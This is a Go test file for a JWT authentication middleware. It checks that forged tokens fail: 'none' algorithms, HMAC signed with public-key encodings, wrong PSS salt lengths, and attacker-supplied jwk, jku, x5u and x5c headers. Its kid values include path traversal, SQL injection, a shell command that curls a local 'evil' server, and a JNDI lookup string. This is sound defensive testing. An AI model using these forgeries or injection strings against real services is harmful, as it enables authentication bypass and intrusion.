package middleware_test

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"hash"
	"maps"
	"math/big"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"

	"github.com/ginrefresh/ginrefresh/middleware"
)

// R1: the key decides the algorithm, and a token cannot bring a key.

// A signature that is valid under the header's alg is rejected if the key has another algorithm.
func TestR1AlgorithmIsTheKeys(t *testing.T) {
	f := newForger(t)
	payload := segment(f.members.object())
	forgeries := map[string]string{}
	for _, alg := range []string{"none", "None", "NONE"} {
		head := segment(`{"alg":"` + alg + `","typ":"JWT"}`)
		forgeries[alg+", not signed"] = head + "." + payload + "."
		forgeries[alg+", no third segment"] = head + "." + payload
	}
	for alg, newHash := range map[string]func() hash.Hash{"HS384": sha512.New384, "HS512": sha512.New} {
		forgeries[alg+", valid signature"] = signHMAC(newHash, secret, segment(`{"alg":"`+alg+`","typ":"JWT"}`), payload)
		forgeries[alg+", our header"] = signHMAC(newHash, secret, segment(ourHeader), payload)
	}
	forgeries["another secret"] = signHMAC(sha256.New, bytes.Repeat([]byte("x"), 32), segment(ourHeader), payload)
	forgeries["an empty secret"] = signHMAC(sha256.New, nil, segment(ourHeader), payload)
	f.rejects("R1 algorithm", forgeries)
}

// No algorithm accepts the token of another, not even with the same key.
func TestR1AlgorithmsAreApart(t *testing.T) {
	all := signers()
	auths := map[middleware.Algorithm]*middleware.Auth{}
	texts := map[middleware.Algorithm]string{}
	shared := newMemory(t)
	for alg, key := range all {
		key.ID = "one"
		auths[alg] = newAuth(t, keys(key), func(c *middleware.Config) { c.Store = shared })
		texts[alg] = login(t, auths[alg])
	}
	for alg, auth := range auths {
		for other, text := range texts {
			want := middleware.CodeTokenInvalid
			if other == alg {
				want = ""
			}
			wantVerify(t, fmt.Sprintf("R1: a token signed with %s, verified with a key for %s", other, alg), auth, text, want)
		}
	}
}

// RFC 7518 §3.5: the salt is as long as the hash. Another signer may choose another length.
func TestR1PSSalt(t *testing.T) {
	for alg, hash := range map[middleware.Algorithm]crypto.Hash{middleware.PS256: crypto.SHA256, middleware.PS384: crypto.SHA384, middleware.PS512: crypto.SHA512} {
		auth := newAuth(t, keys(middleware.Key{ID: "a", Algorithm: alg, Key: rsaKey()}))
		genuine := login(t, auth)
		signed, _, _ := cutLast(genuine, ".")
		for _, salt := range []int{0, 1, 20, hash.Size() - 1, hash.Size(), hash.Size() + 1, rsa.PSSSaltLengthAuto} {
			digest := hash.New()
			digest.Write([]byte(signed))
			signature, err := rsa.SignPSS(rand.Reader, rsaKey(), hash, digest.Sum(nil), &rsa.PSSOptions{SaltLength: salt})
			if err != nil {
				t.Fatal(err)
			}
			want := middleware.CodeTokenInvalid
			if salt == hash.Size() {
				want = ""
			}
			wantVerify(t, fmt.Sprintf("R1: %s with a salt of %d", alg, salt), auth, signed+"."+segment(string(signature)), want)
		}
	}
}

// A public key is known to everyone, so it must not be accepted as an HMAC secret, in no encoding.
func TestR1AlgorithmConfusion(t *testing.T) {
	all := signers()
	for _, alg := range []middleware.Algorithm{middleware.RS256, middleware.PS256, middleware.ES256, middleware.EdDSA} {
		for _, beside := range [][]middleware.Key{nil, {hs256("", secret)}} { // alone, and together with a secret
			auth := newAuth(t, keys(append([]middleware.Key{all[alg]}, beside...)...))
			s := direct(t, oneTokenRoutes(auth))
			genuine := login(t, auth)
			listed := publishedKeys(t, auth)[0]
			payload := segment(membersOf(t, genuine).object())
			for name, key := range confusable(t, all[alg], listed) {
				for _, head := range []string{
					`{"alg":"HS256","kid":` + strconv.Quote(listed["kid"]) + `,"typ":"JWT"}`, ourHeader, `{"alg":"HS256","kid":"","typ":"JWT"}`,
					`{"alg":"` + string(alg) + `","kid":` + strconv.Quote(listed["kid"]) + `,"typ":"JWT"}`,
				} {
					text := signHMAC(sha256.New, key, segment(head), payload)
					wantVerify(t, fmt.Sprintf("R1: HMAC with the %s key's %s, header %s", alg, name, head), auth, text, middleware.CodeTokenInvalid)
					wantRefresh(t, fmt.Sprintf("R1: HMAC with the %s key's %s, header %s", alg, name, head), auth, text, middleware.CodeTokenInvalid)
				}
			}
			for _, none := range []string{"none", "None", "NONE", "nOnE", "none ", "", "\\u006eone"} {
				for _, kid := range []string{"", `"kid":` + strconv.Quote(listed["kid"]) + `,`} {
					for _, signature := range []string{"", ".", strings.Split(genuine, ".")[2], "AAAA"} {
						text := segment(`{"alg":"`+none+`",`+kid+`"typ":"JWT"}`) + "." + payload + "." + signature
						s.send("GET", "/required", bearer(text)).rejected(t, middleware.CodeTokenInvalid)
						s.send("POST", "/refresh", bearer(text)).rejected(t, middleware.CodeTokenInvalid)
					}
				}
			}
			verify(t, auth, refresh(t, auth, genuine))
		}
	}
}

// confusable returns the encodings of a public key that a forger could use as an HMAC secret.
func confusable(t *testing.T, key middleware.Key, listed jwk) map[string][]byte {
	t.Helper()
	spki := must(x509.MarshalPKIXPublicKey(key.Key.(crypto.Signer).Public()))
	texts := map[string][]byte{
		"PEM":           pemOf("PUBLIC KEY", spki),
		"PEM, trimmed":  bytes.TrimSpace(pemOf("PUBLIC KEY", spki)),
		"PEM with CRLF": bytes.ReplaceAll(pemOf("PUBLIC KEY", spki), []byte("\n"), []byte("\r\n")),
		"DER":           spki,
		"base64 of DER": []byte(base64.StdEncoding.EncodeToString(spki)),
		"JWK":           must(json.Marshal(listed)),
		"kid":           []byte(listed["kid"]),
		"nothing":       nil,
	}
	for _, member := range []string{"n", "x", "y"} {
		if listed[member] != "" {
			texts[member+" as text"] = []byte(listed[member])
			texts[member+" as bytes"] = must(base64.RawURLEncoding.DecodeString(listed[member]))
		}
	}
	if k, ok := key.Key.(*rsa.PrivateKey); ok {
		texts["PKCS #1 PEM"] = pemOf("RSA PUBLIC KEY", x509.MarshalPKCS1PublicKey(&k.PublicKey))
		texts["PKCS #1 DER"] = x509.MarshalPKCS1PublicKey(&k.PublicKey)
	}
	if k, ok := key.Key.(*ecdsa.PrivateKey); ok {
		texts["point"] = must(k.PublicKey.Bytes())
	}
	return texts
}

// A token that contains a key, a URL of a key or the path of a key file is verified with the configured keys all the
// same.
func TestR1KeysOfTheToken(t *testing.T) {
	t.Parallel()
	var fetched atomic.Int32
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { fetched.Add(1) }))
	defer evil.Close()
	stolen := filepath.Join(t.TempDir(), "key")
	planted := []byte("a file that the forger has written")
	if err := os.WriteFile(stolen, planted, 0o600); err != nil {
		t.Fatal(err)
	}

	auth := newAuth(t, keys(signers()[middleware.ES256], hs256("", secret), hs256("old", []byte("another secret, of 32 bytes also"))))
	s := direct(t, oneTokenRoutes(auth))
	genuine := login(t, auth)
	listed := publishedKeys(t, auth)[0]
	theirs := publishedKeys(t, newAuth(t, keys(middleware.Key{ID: listed["kid"], Algorithm: middleware.ES256, Key: forgerKey()})))[0]
	template := &x509.Certificate{SerialNumber: big.NewInt(1), NotAfter: time.Now().Add(time.Hour)}
	certificate := base64.StdEncoding.EncodeToString(must(x509.CreateCertificate(rand.Reader, template, template, forgerKey().Public(), forgerKey())))

	headers := map[string]any{
		"jwk":      theirs,
		"jku":      evil.URL + "/jwks.json",
		"x5u":      evil.URL + "/cert.pem",
		"x5c":      []string{certificate},
		"x5t":      "AAAA",
		"x5t#S256": "AAAA",
		"key":      string(planted),
	}
	kids := map[string]string{
		"ours":           listed["kid"],
		"theirs":         "theirs",
		"path":           stolen,
		"relative path":  "../../../../../../../.." + stolen,
		"file URL":       "file://" + stolen,
		"/dev/null":      "../../../../dev/null",
		"/dev/zero":      "/dev/zero",
		"URL":            evil.URL + "/key",
		"SQL":            "x' UNION SELECT 'AAAA' --",
		"command":        "|/bin/sh -c 'curl " + evil.URL + "'",
		"template":       "${jndi:ldap://" + strings.TrimPrefix(evil.URL, "http://") + "/a}",
		"NUL":            listed["kid"] + "\x00",
		"NUL first":      "\x00" + listed["kid"],
		"newline":        listed["kid"] + "\n",
		"prototype":      "__proto__",
		"wildcard":       "*",
		"prefix":         listed["kid"][:42],
		"in upper case":  strings.ToUpper(listed["kid"]),
		"look-alike":     "оld",
		"5 KiB":          strings.Repeat("x", 5<<10),
		"8 KiB":          strings.Repeat("x", 8<<10),
		"ours, twice":    listed["kid"] + listed["kid"],
		"invalid UTF-8":  "old\xff",
		"the other HMAC": "old",
	}
	m := membersOf(t, genuine).object()
	sign := func(head map[string]any) []string {
		forHMAC := maps.Clone(head)
		forHMAC["alg"] = "HS256"
		hmacText := segment(string(must(json.Marshal(forHMAC))))
		return []string{
			signedWith(forgerKey(), head, m),
			signHMAC(sha256.New, planted, hmacText, segment(m)),
			signHMAC(sha256.New, nil, hmacText, segment(m)),
			signHMAC(sha256.New, []byte("AAAA"), hmacText, segment(m)),
		}
	}
	for kid, value := range kids {
		offers := []map[string]any{{}, headers}
		for member, value := range headers {
			offers = append(offers, map[string]any{member: value})
		}
		for _, more := range offers {
			head := maps.Clone(more)
			head["alg"], head["typ"], head["kid"] = "ES256", "JWT", value
			texts := sign(head)
			if kid != "ours" { // a valid signature does not help if the kid is unknown
				texts = append(texts, signedWith(p256(), head, m))
			}
			for i, text := range texts {
				wantVerify(t, fmt.Sprintf("R1: signature %d with %v and the kid %s", i, slices.Sorted(maps.Keys(more)), kid), auth, text, middleware.CodeTokenInvalid)
				s.send("POST", "/refresh", bearer(text)).rejected(t, middleware.CodeTokenInvalid)
			}
		}
	}
	// With the right kid and signature, the same headers change nothing.
	for member, value := range headers {
		if member == "x5c" {
			value = []string{"MIIB"} // with a whole certificate the header would be too long
		}
		head := map[string]any{"alg": "ES256", "typ": "JWT", "kid": listed["kid"], member: value}
		wantVerify(t, "R1: a valid signature and a "+member, auth, signedWith(p256(), head, m), "")
	}
	for _, alg := range []string{"none", "HS256", "RS256", "ES384", "EdDSA", "es256", ""} { // the key decides the algorithm
		head := map[string]any{"alg": alg, "typ": "JWT", "kid": listed["kid"]}
		wantVerify(t, "R1: a valid signature and alg "+alg, auth, signedWith(p256(), head, m), middleware.CodeTokenInvalid)
	}
	if n := fetched.Load(); n != 0 {
		t.Errorf("R1: the forger's server got %d requests", n)
	}
	verify(t, auth, refresh(t, auth, genuine))
}

// forgerKey is the attacker's own key pair.
var forgerKey = sync.OnceValue(func() *ecdsa.PrivateKey { return must(ecdsa.GenerateKey(elliptic.P256(), rand.Reader)) })

func signedWith(key *ecdsa.PrivateKey, head map[string]any, payload string) string {
	text := segment(string(must(json.Marshal(head)))) + "." + segment(payload)
	return text + "." + segment(string(must(jwt.SigningMethodES256.Sign(text, key))))
}
